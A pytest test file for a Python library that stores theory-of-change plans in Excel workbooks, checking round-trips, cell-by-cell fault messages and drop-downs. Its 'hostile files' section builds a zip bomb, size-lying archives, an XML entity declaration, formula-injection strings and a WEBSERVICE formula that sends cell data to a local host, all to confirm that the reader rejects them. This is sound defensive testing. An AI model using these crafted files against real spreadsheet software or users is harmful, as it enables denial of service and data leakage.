"""The native workbook: what people see, what is read back, every fault with its cell, and hostile files."""

import json
import struct
import subprocess
import sys
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter

import tocmodel as toc
from tests.conformance.running import run_case
from tocmodel.errors import TooManyRowsError, UnreadableFileError
from tocmodel.formats.start import start
from tocmodel.formats.workbook import opening
from tocmodel.formats.workbook.pages import Pages
from tocmodel.formats.workbook.sheets import CLASSES, columns
from tocmodel.model import Activity

KENYA = "examples/kenya_sec/kenya_sec.yaml"


def clubs(**indicator: Any) -> toc.TheoryOfChange:
    draft = toc.TheoryOfChange.build("clubs", "Reading clubs")
    draft.source("report", "Annual report")
    draft.dimension("sex", "Sex", categories=["girls", "boys"])
    meet = draft.activity("meet", "Clubs meet")
    draft.link(meet, draft.outcome("fluent", "Pupils read fluently"))
    draft.indicator("pupils", "Pupils in clubs", of=meet, unit="person", by=["sex"], **indicator)
    draft.target("pupils", 150)
    draft.actual("pupils", "over 70", source={"source": "report", "place": "p. 4"}, slice={"sex": "girls"}, period="2024")
    return draft.done()


def edited(path: Path, *changes: tuple[str, str, str | float | date | None]) -> Path:
    """The file with cells changed by another program, as people do it."""
    book = openpyxl.load_workbook(path)
    for sheet, cell, value in changes:
        if sheet not in book.sheetnames:
            book.create_sheet(sheet)
        book[sheet][cell] = value
    book.save(path)
    return path


def cell_of(sheet: str, column: str, row: int) -> str:
    return opening.address(row - 1, [own.name for own in columns(sheet)].index(column))


def faults(path: Path) -> list[str]:
    with pytest.raises(UnreadableFileError) as caught:
        toc.read(path)
    return [str(finding) for finding in caught.value.findings]


@pytest.fixture
def plan(tmp_path: Path) -> Path:
    return toc.write(clubs(), tmp_path / "plan.xlsx")


def test_the_kenya_example_survives(tmp_path: Path) -> None:
    kenya = toc.read(KENYA)
    again = toc.read(toc.write(kenya, tmp_path / "kenya.xlsx"))
    assert again == kenya
    (cut_off,) = [finding for finding in again.findings if finding.code == "M08"]
    assert cut_off.where.path.startswith("targets!B")


@pytest.mark.parametrize(
    "printed",
    [
        "123456789012345",
        "-106395214421920",
        "1234567890123456",
        "100000000000000",
        "0.123456789",
        "-0",
        "1e5",
        "1٢",
        "1234567890.123456",
        "12345678.1234567",
    ],
)
def test_every_digit_of_a_number_survives(tmp_path: Path, printed: str) -> None:
    draft = toc.TheoryOfChange.build("p", "P")
    draft.indicator("i", "I", of=draft.output("o", "O"), unit="person")
    draft.target("i", printed)
    (again,) = toc.read(toc.write(draft.done(), tmp_path / "plan.xlsx")).targets
    assert again.figure == draft.done().targets[0].figure


def test_more_rows_than_a_sheet_holds_are_refused(tmp_path: Path) -> None:
    pages = Pages(tmp_path / "many.xlsx")
    sheet = pages.page("Findings")
    sheet.put(1_048_575, 0, "the last")
    with pytest.raises(TooManyRowsError, match=r"Findings: more than the 1,048,576 rows .* \.csv"):
        sheet.put(1_048_576, 0, "one more")
    pages.save()


def test_what_another_program_saves_is_still_the_same_model(plan: Path) -> None:
    assert toc.read(edited(plan)) == clubs()


def test_people_see_plain_words_and_numbers(plan: Path) -> None:
    book = openpyxl.load_workbook(plan)
    assert book["targets"][cell_of("targets", "figure", 2)].value == 150
    assert book["actuals"][cell_of("actuals", "figure", 2)].value == "over 70"
    assert book["actuals"][cell_of("actuals", "slice", 2)].value == "sex=girls"
    assert book["actuals"][cell_of("actuals", "source", 2)].value == "report"
    assert book["actuals"][cell_of("actuals", "source.place", 2)].value == "p. 4"
    assert book["dimensions"][cell_of("dimensions", "categories", 2)].value == "girls; boys"


def test_headers_are_frozen_and_explained(plan: Path) -> None:
    book = openpyxl.load_workbook(plan)
    for name in CLASSES:
        if name in book.sheetnames:
            sheet = book[name]
            assert sheet.freeze_panes, name
            for cell in sheet[1]:
                assert cell.comment is not None, f"{name} {cell.value}"
    assert "how successive" not in book["README"]["A1"].value
    note = book["indicators"][cell_of("indicators", "direction", 1)].comment
    assert note is not None
    assert "which way is better" in note.text


def test_words_and_ids_have_drop_downs(plan: Path) -> None:
    book = openpyxl.load_workbook(plan)
    rules = {str(rule.sqref).split(":")[0]: rule.formula1 for rule in book["indicators"].data_validations.dataValidation}
    assert "increase,decrease,maintain,context,unknown" in rules[cell_of("indicators", "direction", 2)]
    assert "'results'!$B$2" in rules[cell_of("indicators", "of", 2)]
    kinds = {str(rule.sqref).split(":")[0]: rule.formula1 for rule in book["results"].data_validations.dataValidation}
    assert "activity,output,outcome" in kinds["A2"]


def test_text_that_looks_like_a_formula_is_never_one(tmp_path: Path) -> None:
    texts = ['=HYPERLINK("http://example.org")', "+1", "-1+2", "@SUM(A1)", "=1+1"]
    model = clubs().replaced(*(Activity(id=f"a{number}", title=text) for number, text in enumerate(texts)))
    path = toc.write(model, tmp_path / "plan.xlsx")
    assert toc.read(path) == model
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    book = openpyxl.load_workbook(path)
    cells = [cell for row in book["results"].iter_rows() for cell in row if cell.value in texts]
    assert len(cells) == len(texts)
    assert all(cell.quotePrefix for cell in cells)


def test_a_text_longer_than_a_cell_is_kept(tmp_path: Path) -> None:
    model = clubs(definition="word é " * 12_000, extensions={"other": {"raw": "<x/>" * 20_000}})
    assert toc.read(toc.write(model, tmp_path / "plan.xlsx")) == model


def test_dates_numbers_and_flags_as_people_type_them(plan: Path) -> None:
    edited(
        plan,
        ("actuals", cell_of("actuals", "reported", 2), date(2025, 1, 10)),
        ("actuals", cell_of("actuals", "figure", 2), 0.1 + 0.2),
        ("targets", cell_of("targets", "figure", 2), 1550),
        ("results", cell_of("results", "driver", 2), True),
    )
    model = toc.read(plan)
    assert model.actuals[0].reported == date(2025, 1, 10)
    assert model.actuals[0].figure.printed == "0.3"
    assert model.targets[0].figure.printed == "1550"
    assert model.nodes[0].driver


def test_a_cell_shown_as_percent_is_read_as_shown(plan: Path) -> None:
    book = openpyxl.load_workbook(plan)
    cell = book["targets"][cell_of("targets", "figure", 2)]
    cell.value, cell.number_format = 0.45, "0%"
    indicator = book["indicators"]
    indicator[cell_of("indicators", "unit", 2)] = "percent"
    book["actuals"].delete_rows(2)
    book.save(plan)
    assert toc.read(plan).targets[0].figure.printed == "45%"


def test_an_empty_figure_was_not_reported_and_empty_rows_are_passed_over(plan: Path) -> None:
    edited(plan, ("actuals", cell_of("actuals", "indicator", 9), "pupils"), ("actuals", cell_of("actuals", "period", 9), 2025))
    model = toc.read(plan)
    assert len(model.actuals) == 2
    assert model.actuals[1].figure == toc.Figure.gap()


def test_every_fault_is_named_at_once_with_its_cell(plan: Path) -> None:
    end = opening.address(0, len(columns("links")))
    edited(
        plan,
        ("indicators", cell_of("indicators", "direction", 2), "upward"),
        ("links", cell_of("links", "to", 2), "fluant"),
        ("links", end, "strenght"),
        ("results", "A3", "outcom"),
        ("actuals", cell_of("actuals", "indicator", 2), "pupil"),
        ("targets", cell_of("targets", "period", 2), "soon"),
        ("programme", "A30", "titel"),
        ("risk", "A1", "id"),
        ("sources", opening.address(5, 80), "stray"),
    )
    found = "\n".join(faults(plan))
    for expected in (
        f"F04 at plan.xlsx: indicators!{cell_of('indicators', 'direction', 2)}: unknown direction: 'upward'",
        f"F02 at plan.xlsx: links!{end}: unknown column: 'strenght' (did you mean 'strength'?)",
        "F04 at plan.xlsx: results!A3: unknown kind of result: 'outcom' (did you mean 'outcome'?)",
        f"M02 at plan.xlsx: actuals!{cell_of('actuals', 'indicator', 2)}: no indicator has the id 'pupil' (did you mean 'pupils'?)",
        f"F04 at plan.xlsx: targets!{cell_of('targets', 'period', 2)}: not a date or period: 'soon'",
        f"M02 at plan.xlsx: links!{cell_of('links', 'to', 2)}: no node has the id 'fluant'",
        "F02 at plan.xlsx: programme!A30: unknown field: 'titel' (did you mean 'title'?)",
        "F02 at plan.xlsx: risk: 'risk' is not a sheet that a workbook of tocmodel has; it is not read (did you mean 'risks'?)",
        f"F02 at plan.xlsx: sources!{opening.address(5, 80)}: a cell below no column name: 'stray'",
    ):
        assert expected in found, expected


def test_naming_a_result_of_an_unknown_kind_is_no_second_fault(plan: Path) -> None:
    (only,) = faults(edited(plan, ("results", "A3", "golas")))
    assert "unknown kind of result: 'golas'" in only


def test_words_of_choices_stand_in_any_letter_case(plan: Path) -> None:
    found = toc.read(
        edited(
            plan,
            ("results", "A2", "Output"),
            ("results", "A3", "GOAL"),
            ("indicators", cell_of("indicators", "direction", 2), "Increase"),
            ("indicators", cell_of("indicators", "report", 2), "Per period"),
            ("indicators", cell_of("indicators", "by", 2), "sex=Partial"),
        )
    )
    indicator = found.indicators[0]
    assert (indicator.direction, indicator.report, indicator.by[0].coverage) == ("increase", "per_period", "partial")
    goal = found.nodes[-1]
    assert (goal.kind, getattr(goal, "level", None)) == ("objective", "overall")


def test_a_goal_of_another_level_is_refused(plan: Path) -> None:
    (fault,) = faults(edited(plan, ("results", "A3", "Goal"), ("results", cell_of("results", "level", 3), "Specific")))
    assert "'Goal' is of the level overall, not Specific" in fault
    found = "\n".join(faults(edited(plan, ("results", "A3", "Golas"))))
    assert "unknown kind of result: 'Golas' (did you mean 'goal'?)" in found


def test_a_sheet_of_ones_own_is_a_finding_only(plan: Path) -> None:
    model = toc.read(edited(plan, ("My calculations", "A1", "scratch")))
    assert model == clubs()
    assert [finding.code for finding in model.findings] == ["F10"]


def test_a_formula_gives_its_last_value_and_a_note(tmp_path: Path) -> None:
    import xlsxwriter

    path = tmp_path / "clubs.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("IPTT")
    for column, name in enumerate(("Result", "Indicator", "Target", "Actual")):
        sheet.write_string(0, column, name)
    for column, text in enumerate(("Output 1: Clubs meet", "Clubs")):
        sheet.write_string(1, column, text)
    sheet.write_number(1, 2, 12)
    sheet.write_formula(1, 3, "=5+6", None, 11)
    book.close()
    model = toc.read(path)
    assert [actual.figure.printed for actual in model.actuals] == ["11"]
    assert [str(finding.where) for finding in model.findings if finding.code == "F07"] == ["clubs.xlsx: IPTT!D2"]


def test_a_formula_that_nobody_calculated_is_warned_of(plan: Path) -> None:
    path = edited(plan, ("actuals", cell_of("actuals", "figure", 2), "=1200+300"))
    (found,) = [finding for finding in toc.read(path).findings if finding.code == "F07"]
    assert found.severity == "warning"
    assert "no calculated value" in found.message


def test_the_newer_format_is_refused_with_its_cell(plan: Path) -> None:
    (only,) = faults(edited(plan, ("programme", "B2", 99)))
    assert "F06 at plan.xlsx: programme!B2" in only
    assert "version 99" in only


PREFIXED = """<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row r="1">
<x:c t="n" s = '1' r="A1"><x:f>1/4</x:f><x:v>0.25</x:v></x:c><x:c s="11" r="B1"><x:v>0.25</x:v></x:c><x:c r="C1" s="0"><x:f/></x:c></x:row></x:sheetData>
<x:dataValidations count="1"><x:dataValidation sqref="A1"><x:formula1>"a,b"</x:formula1></x:dataValidation></x:dataValidations></x:worksheet>"""
PERCENT = b'<styleSheet><cellXfs count="12"><xf/><xf numFmtId="9"/>' + b"<xf/>" * 10 + b"</cellXfs></styleSheet>"


@pytest.mark.parametrize("sheet", [PREFIXED, PREFIXED.replace("xmlns:x", "xmlns").replace("x:", "")])
def test_formulas_and_percentages_are_found_whatever_the_form(tmp_path: Path, sheet: str) -> None:
    path = archive(tmp_path / "plan.xlsx", b"", **{"xl/styles.xml": PERCENT})
    with zipfile.ZipFile(path) as file:
        parts = {name: file.read(name) for name in file.namelist()} | {"xl/worksheets/sheet1.xml": sheet.encode()}
    with zipfile.ZipFile(path, "w") as file:
        for name, content in parts.items():
            file.writestr(name, content)
    (read,) = opening.opened(path).sheets
    assert read.formulas == ("A1", "C1")
    assert read.rows[0][:2] == ("25%", "0.25")
    assert read.without_value() == ["C1"]


def test_a_drop_down_is_no_formula(plan: Path) -> None:
    with zipfile.ZipFile(plan) as file:
        assert any(b"<formula1>" in file.read(name) for name in file.namelist())
    assert not any(sheet.formulas for sheet in opening.opened(plan).sheets)


# Hostile files


def archive(path: Path, sheet: bytes, **parts: bytes) -> Path:
    """A workbook of one sheet, made by hand."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
        file.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>',
        )
        relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        package = "http://schemas.openxmlformats.org/package/2006/relationships"
        file.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{package}"><Relationship Id="a" Type="{relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        file.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        file.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{relations}"><sheets><sheet name="results" sheetId="1" r:id="r1"/></sheets></workbook>',
        )
        inner = sheet if sheet.startswith(b"<dimension") else b"<sheetData>" + sheet + b"</sheetData>"
        file.writestr("xl/worksheets/sheet1.xml", b'<worksheet xmlns="%s">%s</worksheet>' % (main.encode(), inner))
        for name, content in parts.items():
            file.writestr(name, content)
    return path


def row(number: int, cell: str) -> bytes:
    return f'<row r="{number}"><c r="{cell}" t="inlineStr"><is><t>x</t></is></c></row>'.encode()


def test_a_cell_far_away_is_refused_before_memory_is_taken(tmp_path: Path) -> None:
    path = archive(tmp_path / "far.xlsx", row(1, "A1") + row(1048576, "XFD1048576"))
    (only,) = faults(path)
    assert "reaches to row 1,048,576 and column 16,384" in only


@pytest.mark.parametrize(
    "far",
    [
        b'<row r="1048576"><c r="xfd1048576"><v>1</v></c></row>',
        b'<row r="1048576"><c t="n"  r = "XFD1048576"><v>1</v></c></row>',
        b'<row r="1048576"><c x=">" r="XFD1048576"><v>1</v></c></row>',
        b'<row r="A1048576">' + b"<c><v>1</v></c>" * 400 + b"</row>",
        b"<row/>" * 20_000 + b"<row>" + b"<c><v>1</v></c>" * 400 + b"</row>",
        b'<x:row xmlns:x="a"><x:c r="XFD1048576"/></x:row>',
        b'<row><c r="ZZ1"/><c r="A99999"/></row>',
        b'<row><c r="BA1"/></row>' + b'<row r="100000"><c/></row>',
        b'<row><c r="' + b"A" * 99 + b'1"/></row>',
    ],
)
def test_a_cell_far_away_is_found_however_it_says_where_it_is(tmp_path: Path, far: bytes) -> None:
    (only,) = faults(archive(tmp_path / "far.xlsx", row(1, "A1") + far))
    assert "reaches to row" in only


@pytest.mark.parametrize(
    "near",
    [
        b"<row><c><v>1</v></c></row>" * 30_000,
        b'<row><c s="0" r="ZZ1"/></row><row r="7000"><c r="a7000"/></row>',
        b'<row><c r="AX99999"/></row>',
    ],
)
def test_a_table_of_an_unusual_form_is_not_far(tmp_path: Path, near: bytes) -> None:
    assert "no column of it is recognised" in faults(archive(tmp_path / "near.xlsx", row(1, "A1") + near))[0]


def test_a_table_may_stand_anywhere_in_its_sheet(tmp_path: Path) -> None:
    path = archive(tmp_path / "plan.xlsx", row(3, "C3") + row(5, "E5"))
    (sheet,) = opening.opened(path).sheets
    empty = ("",) * 5
    assert sheet.rows == (empty, empty, ("", "", "x", "", ""), empty, ("", "", "", "", "x"))


def test_many_rows_are_no_fault(tmp_path: Path) -> None:
    path = archive(tmp_path / "long.xlsx", row(1, "A1") + row(150_000, "B150000"))
    assert "no column of it is recognised" in faults(path)[0]


def test_a_zip_bomb_is_refused_by_what_it_says_of_itself(tmp_path: Path) -> None:
    path = archive(tmp_path / "bomb.xlsx", row(1, "A1"), **{"xl/media/big.xml": b" " * (40 * 2**20)})
    (only,) = faults(path)
    assert "unpacked it would have" in only


def test_a_zip_that_lies_about_its_sizes_is_refused(tmp_path: Path) -> None:
    path = archive(tmp_path / "lie.xlsx", row(1, "A1"), **{"xl/media/big.xml": b" " * (30 * 2**20)})
    content = bytearray(path.read_bytes())
    position = content.rindex(b"PK\x01\x02", 0, content.rindex(b"xl/media/big.xml"))
    content[position + 24 : position + 28] = struct.pack("<I", 100)
    path.write_bytes(content)
    assert "damaged" in faults(path)[0]


@pytest.mark.parametrize("size", [0, 3, 100, 900, 5000])
def test_a_file_that_is_cut_off_is_refused(plan: Path, size: int) -> None:
    plan.write_bytes(plan.read_bytes()[:size])
    assert "not a workbook" in faults(plan)[0]


def test_a_protected_or_old_workbook_is_named_as_such(tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    assert "protected with a password" in faults(path)[0]


def test_other_things_are_no_workbooks(tmp_path: Path) -> None:
    text = tmp_path / "text.xlsx"
    text.write_text("id,title\n", encoding="utf-8")
    assert "not a workbook" in faults(text)[0]
    other = tmp_path / "other.xlsx"
    with zipfile.ZipFile(other, "w") as file:
        file.writestr("readme.txt", "no workbook")
    assert "not a workbook" in faults(other)[0]
    assert "there is no such file" in faults(tmp_path / "none.xlsx")[0]
    (tmp_path / "folder.xlsx").mkdir()
    assert "folder" in faults(tmp_path / "folder.xlsx")[0]


def test_entities_are_refused(tmp_path: Path) -> None:
    path = archive(tmp_path / "entities.xlsx", row(1, "A1"), **{"docProps/core.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'})
    assert "declares a document type" in faults(path)[0]


# The starting model


def test_the_starting_workbook_and_the_starting_text_are_one_model(tmp_path: Path) -> None:
    text = toc.read(start(tmp_path / "plan.yaml"))
    book = start(tmp_path / "plan.xlsx", workbook=True)
    assert toc.read(book) == text
    assert not text.findings
    assert not [finding for finding in toc.check(text) if finding.severity == "error"]
    assert set(CLASSES) <= set(openpyxl.load_workbook(book).sheetnames)
    with pytest.raises(UnreadableFileError, match="does not end in"):
        start(tmp_path / "plan.xlsx")


# Hostile files, read by a process that may take a gigabyte and a minute

FORMULA = '<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;[1]Sheet1!A1)</f><v>Indicator</v></c><c r="B1" t="str"><v>Target</v></c></row>'
HOSTILE: dict[str, tuple[bytes, dict[str, bytes], str]] = {
    "a dimension that lies": (b'<dimension ref="A1:XFD1048576"/><sheetData>' + row(1, "A1") + b"</sheetData>", {}, "no column of it is recognised"),
    "an area merged over everything": (row(1, "A1") + b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>', {}, "no column"),
    "shared strings that lie": (row(1, "A1"), {"xl/sharedStrings.xml": b'<sst count="4294967295" uniqueCount="4294967295"/>'}, "counts more texts"),
    "shared strings that lie in a roundabout way": (row(1, "A1"), {"xl/SharedStrings.xml": b'<x:sst uniqueCount="&#52;294967295"/>'}, "counts more texts"),
    "styles that lie": (row(1, "A1"), {"xl/styles.xml": b'<styleSheet><numFmts count="4294967295"/><cellXfs count="4294967295"><xf/></cellXfs></styleSheet>'}, "no column"),
    "a shared string that is not there": (b'<row r="1"><c r="A1" t="s"><v>4294967290</v></c></row>', {}, "fault"),
    "rows beyond counting": (b'<row r="99999999999999"><c r="A99999999999999"><v>1</v></c></row>', {}, "fault"),
    "deep elements": (b"<row>" + b"<c><is>" * 100_000 + b"</is></c>" * 100_000 + b"</row>", {}, "fault"),
    "deep styles": (row(1, "A1"), {"xl/styles.xml": b"<a>" * 300_000 + b"</a>" * 300_000}, "not a workbook"),
    "another encoding": ('<row r="1"/>'.encode("utf-16"), {"xl/other.xml": "<x/>".encode("utf-16")}, "no UTF-8 text"),
    "a formula that calls somebody": (FORMULA.encode(), {"xl/externalLinks/externalLink1.xml": b'<externalLink><a Target="http://127.0.0.1:9/x"/></externalLink>'}, "F07"),
}  # fmt: skip
READ = """
import resource, socket, sys
resource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30))
resource.setrlimit(resource.RLIMIT_CPU, (60, 60))
class Refused(socket.socket):
    def connect(self, *_): raise SystemExit("it opened a connection")
socket.socket = Refused
import tocmodel as toc
try:
    print(*toc.read(sys.argv[1]).findings, sep="\\n")
except toc.UnreadableFileError as fault:
    print(fault)
"""


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_workbooks_take_little_and_call_nobody(tmp_path: Path, what: str) -> None:
    sheet, parts, said = HOSTILE[what]
    path = archive(tmp_path / "plan.xlsx", sheet, **parts)
    done = subprocess.run([sys.executable, "-c", READ, str(path)], capture_output=True, text=True, timeout=90, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert said in done.stdout


def test_many_sheets_that_each_reach_far_are_refused_together(tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    book = xlsxwriter.Workbook(str(path))
    for number in range(30):
        sheet = book.add_worksheet(f"s{number}")
        sheet.write(0, 0, "x")
        sheet.write(99_998, 25, "x")
    book.close()
    done = subprocess.run([sys.executable, "-c", READ, str(path)], capture_output=True, text=True, timeout=90, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert "reaches to row" in done.stdout


def test_a_sheet_under_another_ending_is_checked_too(tmp_path: Path) -> None:
    path = archive(
        tmp_path / "far.xlsx",
        row(1, "A1"),
        **{"xl/worksheets/other.bin": b"<sheetData>" + row(1, "A1") + row(1048576, "XFD1048576") + b"</sheetData>"},
    )
    assert "reaches to row 1,048,576" in faults(path)[0]


# The models of the acceptance cases

CASES = sorted(Path("../shared/cases").glob("*.json"))


@pytest.mark.skipif(not CASES, reason="the cases of ../shared are not here")
def test_the_models_of_the_acceptance_cases_survive(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    built: list[toc.TheoryOfChange] = []
    make = toc.TheoryOfChange.of

    def remembered(*given: Any, **named: Any) -> toc.TheoryOfChange:
        built.append(make(*given, **named))
        return built[-1]

    monkeypatch.setattr(toc.TheoryOfChange, "of", remembered)
    counts: dict[str, int] = {}
    for file in CASES:
        before = len(built)
        for case in json.loads(file.read_text(encoding="utf-8"), parse_float=Decimal)["cases"][:12]:
            run_case(case)
        counts[file.stem] = len(built) - before
        del built[before + 8 :]
    monkeypatch.undo()
    assert {"checks", "diff", "packages", "plausibility"} <= {family for family, count in counts.items() if count}
    for number, model in enumerate(built):
        assert toc.read(toc.write(model, tmp_path / f"{number}.xlsx")) == model


def test_a_goal_is_among_the_kinds_that_a_cell_offers(plan: Path) -> None:
    rules = {
        str(rule.sqref).split(":")[0]: rule.formula1 for rule in openpyxl.load_workbook(plan)["results"].data_validations.dataValidation
    }
    assert rules["A2"].strip('"').split(",")[-1] == "goal"
    read = toc.read(edited(plan, ("results", "A3", "goal")))
    assert [str(getattr(node, "level", "")) for node in read.nodes] == ["", "overall"]


def test_a_drop_down_offers_the_ids_of_every_row(tmp_path: Path) -> None:
    draft = toc.TheoryOfChange.build("clubs", "Reading clubs")
    for number in range(2500):
        draft.activity(f"a{number}", f"Club {number}")
    draft.indicator("pupils", "Pupils in clubs", of="a2499", unit="person")
    path = toc.write(draft.done(), tmp_path / "plan.xlsx")
    rules = {
        str(rule.sqref).split(":")[0]: rule.formula1 for rule in openpyxl.load_workbook(path)["indicators"].data_validations.dataValidation
    }
    assert rules[cell_of("indicators", "of", 2)] == "'results'!$B$2:$B$5001"


def test_a_finding_in_a_cell_still_says_which_record_and_field_it_is(plan: Path) -> None:
    with pytest.raises(UnreadableFileError) as raised:
        toc.read(edited(plan, ("indicators", cell_of("indicators", "of", 2), "club")))
    (fault,) = raised.value.findings
    assert (fault.where.path, fault.where.record, fault.where.field) == (
        f"indicators!{cell_of('indicators', 'of', 2)}",
        "indicators[0]",
        "of",
    )


def test_a_damaged_workbook_is_said_to_be_damaged(plan: Path, tmp_path: Path) -> None:
    """Whichever byte was lost: either the model is as it was, or one finding names the file."""
    whole, model = plan.read_bytes(), toc.read(plan)
    for at in range(0, len(whole), len(whole) // 60):
        path = tmp_path / "damaged.xlsx"
        path.write_bytes(whole[:at] + bytes([whole[at] ^ 0xFF]) + whole[at + 1 :])
        try:
            assert toc.read(path) == model
        except UnreadableFileError as fault:
            assert {finding.where.file for finding in fault.findings} == {"damaged.xlsx"}  # noqa: PT017 — either will do
